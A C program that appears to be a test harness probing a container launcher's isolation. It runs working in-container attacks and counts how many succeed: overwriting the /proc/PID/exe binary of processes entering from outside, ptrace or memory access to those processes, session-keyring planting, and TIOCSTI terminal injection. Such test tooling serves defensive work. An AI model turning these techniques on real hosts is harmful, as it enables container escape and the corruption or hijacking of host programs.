/* What an attacker does inside a container; each way prints one line with what came of it.
 *
 *   attacker overwrite TENTHS      writes to the program of any process that comes into the container from outside
 *   attacker ptrace TENTHS         takes hold of any such process, its memory or its descriptors
 *   attacker keyring-put NAME CMD  puts a key into a new session keyring, and goes on as CMD
 *   attacker keyring-find NAME     looks for that key
 *   attacker inject WORD           types a word at the terminal that is standard input
 *   attacker launcher PID CMD      the launcher without any protection that shows that the first two attacks work: joins the
 *                                  mounts and processes of PID, takes a while, and executes CMD
 *
 * A program is from outside when it is neither this one nor the container's shell. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* CHOWN, DAC_OVERRIDE, FOWNER, KILL, SETGID, SETUID: those of the container in which the attacker is. */
#define MANY 0xebu

static struct stat own, shell;
static int seen, succeeded, last;

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static int is_foreign(const struct stat *program) {
    return (program->st_ino != own.st_ino || program->st_dev != own.st_dev) &&
           (program->st_ino != shell.st_ino || program->st_dev != shell.st_dev);
}

/* The file is held by a path descriptor, which the end of the process does not take away, and opened for writing as soon as
 * nobody executes it. */
static void overwrite(int pid) {
    char path[64];
    struct stat program;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) {
        if (errno != ENOENT)
            last = errno;
        return;
    }
    if (fstat(held, &program) == 0 && is_foreign(&program)) {
        seen++;
        snprintf(path, sizeof path, "/proc/self/fd/%d", held);
        for (double end = now() + 1; now() < end;) {
            int file = open(path, O_WRONLY | O_CLOEXEC);
            if (file >= 0 && write(file, "#!", 2) == 2)
                succeeded++;
            else
                last = errno;
            if (file >= 0)
                close(file);
            if (file >= 0 || last != ETXTBSY)
                break;
        }
    }
    close(held);
}

static void take_hold(int pid) {
    char path[64];
    struct stat program;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int is_attack = stat(path, &program) == 0 && is_foreign(&program);
        seen += is_attack;
        succeeded += is_attack;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return;
    }
    if (errno == ESRCH)
        return;
    last = errno;
    seen++;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
    int descriptor = open(path, O_PATH | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    /* When it has become the container's own program meanwhile, it may be looked at. */
    if ((memory >= 0 || descriptor >= 0) && stat(path, &program) == 0 && is_foreign(&program))
        succeeded++;
    close(memory);
    close(descriptor);
}

static int hunt(void (*attack)(int), int tenths) {
    stat("/proc/self/exe", &own);
    stat("/bin/busybox", &shell);
    printf("hunting\n");
    fflush(stdout);
    int self = getpid();
    for (double end = now() + tenths / 10.0; now() < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != self)
                attack(pid);
        }
        if (processes)
            closedir(processes);
    }
    printf("seen %d, succeeded %d, last %s\n", seen, succeeded, last ? strerrorname_np(last) : "0");
    return 0;
}

static int launch(int target, char **words) {
    char path[64];
    int namespaces[2];
    static const char *kinds[] = {"mnt", "pid"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/ns/%s", target, kinds[i]);
        namespaces[i] = open(path, O_RDONLY);
    }
    if (setns(namespaces[1], CLONE_NEWPID) != 0 || setns(namespaces[0], CLONE_NEWNS) != 0)
        return 3;
    pid_t child = fork();
    if (child == 0) {
        /* As a launcher does that has dropped already what the container does not have. */
        struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
        struct __user_cap_data_struct data[2] = {{.effective = MANY, .permitted = MANY}};
        if (syscall(SYS_capset, &header, data) != 0)
            _exit(4);
        usleep(300000);
        execv(words[0], words);
        _exit(5);
    }
    int status;
    waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 99;
}

static int keyring(char **words) {
    if (strcmp(words[1], "keyring-put") == 0) {
        if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
            syscall(SYS_add_key, "user", words[2], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
            return 3;
        execvp(words[3], words + 3);
        return 4;
    }
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", words[2], 0);
    printf("%s\n", key >= 0 ? "found" : strerrorname_np(errno));
    return 0;
}

static int inject(const char *word) {
    for (; *word; word++)
        if (ioctl(0, TIOCSTI, word) != 0) {
            printf("%s\n", strerrorname_np(errno));
            return 0;
        }
    printf("typed\n");
    return 0;
}

int main(int count, char **words) {
    if (count < 3)
        return 2;
    if (strcmp(words[1], "overwrite") == 0)
        return hunt(overwrite, atoi(words[2]));
    if (strcmp(words[1], "ptrace") == 0)
        return hunt(take_hold, atoi(words[2]));
    if (strcmp(words[1], "launcher") == 0)
        return launch(atoi(words[2]), words + 3);
    if (strcmp(words[1], "inject") == 0)
        return inject(words[2]);
    return keyring(words);
}
